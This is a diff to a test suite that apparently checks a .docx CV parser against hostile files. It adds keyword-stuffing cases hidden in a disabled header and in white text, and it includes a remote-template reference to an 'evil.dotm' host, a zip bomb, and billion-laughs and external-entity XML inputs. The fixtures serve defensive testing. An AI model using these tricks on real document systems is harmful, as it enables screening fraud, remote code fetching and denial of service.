@@ -246,12 +246,16 @@ HOSTILE = (
                     properties='<w:tblLayout w:type="fixed"/>'), "smaller than 4 points"),
     Case("unused header.docx", lambda: docx(CV + HEADER_ID.format("first"), parts={"header": p(KEYWORDS)}), shows=("Registered",),
          drops=(KEYWORDS,)),
+    Case("header switched off.docx", lambda: docx(CV + HEADER_ID.format("even"), parts={"header": p(KEYWORDS),
+         "settings": '<w:evenAndOddHeaders w:val="0"/>'}), shows=("Registered",), drops=(KEYWORDS,)),
+    hidden_in(p(r(KEYWORDS, WHITE)), f"in white {SAME}", before_body='<w:background w:color="202020"/>',
+              parts={"settings": '<w:displayBackgroundShape w:val="0"/>'}),
     Case("remote.docx", lambda: docx(CV, relations='<Relationship Id="t" Type="x/attachedTemplate" TargetMode="External" '
          'Target="http://127.0.0.1:9/evil.dotm"/>'), shows=("Registered",), silent=True),
 )  # fmt: skip
 
 REFUSED = (
-    Case("bomb.docx", lambda: bomb(3_000_000), error="-fold when unpacked"),
+    Case("bomb.docx", lambda: bomb(20_000_000), error="more than 20,000,000 bytes unpacked"),
     Case("lying bomb.docx", lying_bomb, error="is damaged"),
     Case("laughs.docx", lambda: with_main(LAUGHS), error="declares a document type"),
     Case("outside.docx", lambda: with_main(OUTSIDE), error="declares a document type"),
